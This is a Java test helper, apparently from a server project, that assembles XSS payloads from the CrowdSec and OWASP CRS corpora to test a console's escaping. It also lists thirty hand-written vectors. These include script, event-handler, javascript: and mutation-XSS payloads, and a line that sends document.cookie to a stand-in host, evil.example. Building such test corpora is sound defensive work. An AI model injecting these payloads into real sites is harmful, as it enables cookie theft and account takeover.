package dev.mimamori.server;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import java.io.IOException;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;

/**
 * XSS payloads from the third-party corpus ({@code ../shared/corpus}, never copied into the
 * project): CrowdSec's XSS probe patterns, made into whole tags, and the attack values of the OWASP
 * CRS 941 (XSS) regression tests. The selection is deterministic: the same corpus gives the same
 * payloads in the same order.
 */
final class XssCorpus {
  static final String CROWDSEC = "rules/crowdsec-sec-lists/web/xss_probe_patterns.txt";
  static final String CRS =
      "rules/coreruleset-v4.28.0/tests/regression/tests/REQUEST-941-APPLICATION-ATTACK-XSS";
  private static final Set<String> ORDINARY =
      Set.of("OWASP CRS test agent", "localhost", "http://www.coreruleset.org");

  private XssCorpus() {}

  /**
   * Our own vectors, written for this test (not from the corpus): each context a page has (text,
   * attribute, URL, style, script, SVG, markup breaking out of a tag or a comment).
   */
  static final List<String> OWN =
      List.of(
          "<script>alert('mm-own-1')</script>",
          "<img src=x onerror=alert('mm-own-2')>",
          "<svg onload=alert('mm-own-3')>",
          "<svg><script>alert('mm-own-4')</script></svg>",
          "\"><script>alert('mm-own-5')</script>",
          "'><img src=x onerror=alert('mm-own-6')>",
          "\" onmouseover=\"alert('mm-own-7')\" x=\"",
          "' autofocus onfocus='alert(8)' x='",
          "javascript:alert('mm-own-9')",
          "JaVaScRiPt:alert('mm-own-10')",
          "data:text/html,<script>alert('mm-own-11')</script>",
          "<a href=\"javascript:alert('mm-own-12')\">click</a>",
          "<iframe src=\"javascript:alert('mm-own-13')\"></iframe>",
          "<body onload=alert('mm-own-14')>",
          "<details open ontoggle=alert('mm-own-15')>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert('mm-own-16')>",
          "--><script>alert('mm-own-17')</script><!--",
          "</textarea><script>alert('mm-own-18')</script>",
          "</title><script>alert('mm-own-19')</script>",
          "<style>*{background:url(//evil.example/x)}</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
          "<base href=//evil.example/>",
          "<form action=//evil.example/><input name=q></form>",
          "<object data=\"javascript:alert('mm-own-25')\">",
          "{{constructor.constructor('alert(26)')()}}",
          "<img src=\"x\" onerror=\"fetch('//evil.example/'+document.cookie)\">",
          "invoice\u202Egnp.php<script>alert('mm-own-28')</script>",
          "<scr<script>ipt>alert('mm-own-29')</scr</script>ipt>",
          "%3Cscript%3Ealert('mm-own-30')%3C%2Fscript%3E");

  /** {@code mimamori.corpus}, {@code MIMAMORI_CORPUS}, or a {@code shared/corpus} above here. */
  static Optional<Path> find() {
    String configured = System.getProperty("mimamori.corpus", System.getenv("MIMAMORI_CORPUS"));
    if (configured != null && Files.isDirectory(Path.of(configured))) {
      return Optional.of(Path.of(configured));
    }
    for (Path dir = Path.of("").toAbsolutePath(); dir != null; dir = dir.getParent()) {
      Path candidate = dir.resolve("shared/corpus");
      if (Files.isDirectory(candidate.resolve(CRS))
          && Files.isRegularFile(candidate.resolve(CROWDSEC))) {
        return Optional.of(candidate);
      }
    }
    return Optional.empty();
  }

  /** At most {@code limit} payloads, spread evenly over everything the corpus holds. */
  static List<String> payloads(Path corpus, int limit) throws IOException {
    List<String> all = new ArrayList<>(new LinkedHashSet<>(all(corpus)));
    if (all.size() <= limit) {
      return all;
    }
    List<String> out = new ArrayList<>(limit);
    for (int i = 0; i < limit; i++) {
      out.add(all.get((int) ((long) i * all.size() / limit)));
    }
    return out;
  }

  private static List<String> all(Path corpus) throws IOException {
    List<String> out = new ArrayList<>();
    for (String probe : Files.readAllLines(corpus.resolve(CROWDSEC), StandardCharsets.UTF_8)) {
      if (!probe.isBlank()) {
        out.add(whole(probe.strip()));
      }
    }
    List<Path> files;
    try (Stream<Path> s = Files.list(corpus.resolve(CRS))) {
      files = s.filter(p -> p.toString().endsWith(".yaml")).sorted().toList();
    }
    YAMLMapper yaml = new YAMLMapper();
    for (Path file : files) {
      for (JsonNode test : yaml.readTree(file.toFile()).path("tests")) {
        for (JsonNode stage : test.path("stages")) {
          if (stage.path("output").path("log").path("expect_ids").size() > 0) {
            attackValues(stage.path("input"), out);
          }
        }
      }
    }
    return out;
  }

  /** A probe pattern as an attacker completes it: a tag with a handler, or a call. */
  private static String whole(String probe) {
    if (probe.startsWith("<") || probe.startsWith("%3C")) {
      return probe.strip() + " src=x onerror=alert(document.domain) onload=alert(1)>";
    }
    return probe + (probe.endsWith("(") || probe.endsWith("%28") ? "1)" : "alert(1)");
  }

  /** The query values, body and unusual header values of one CRS test request, decoded. */
  private static void attackValues(JsonNode input, List<String> out) {
    String uri = input.path("uri").asText("");
    int q = uri.indexOf('?');
    if (q >= 0) {
      for (String pair : uri.substring(q + 1).split("&")) {
        add(out, decode(pair.substring(pair.indexOf('=') + 1)));
      }
    } else if (uri.indexOf('<') >= 0 || uri.indexOf('%') >= 0) {
      add(out, decode(uri));
    }
    String data = input.path("data").asText("");
    if (!data.isEmpty()) {
      add(out, data.indexOf('<') >= 0 ? data : decode(data));
    }
    input
        .path("headers")
        .properties()
        .forEach(
            h -> {
              String v = h.getValue().asText("");
              if (!ORDINARY.contains(v) && !isPlainHeader(h.getKey())) {
                add(out, v);
              }
            });
  }

  private static boolean isPlainHeader(String name) {
    return Set.of("Host", "Accept", "Content-Type", "Content-Length", "Cache-Control", "Connection")
        .contains(name);
  }

  private static void add(List<String> out, String value) {
    String v = value.strip();
    // A value with no markup, quote or call in it carries nothing for the console to mishandle.
    if (v.length() >= 4 && v.length() <= 2000 && v.matches("(?s).*[<>\"'(:].*")) {
      out.add(v);
    }
  }

  private static String decode(String s) {
    try {
      return URLDecoder.decode(s, StandardCharsets.UTF_8);
    } catch (IllegalArgumentException e) {
      return s; // a stray % in an attack string: keep it as the attacker wrote it
    }
  }
}
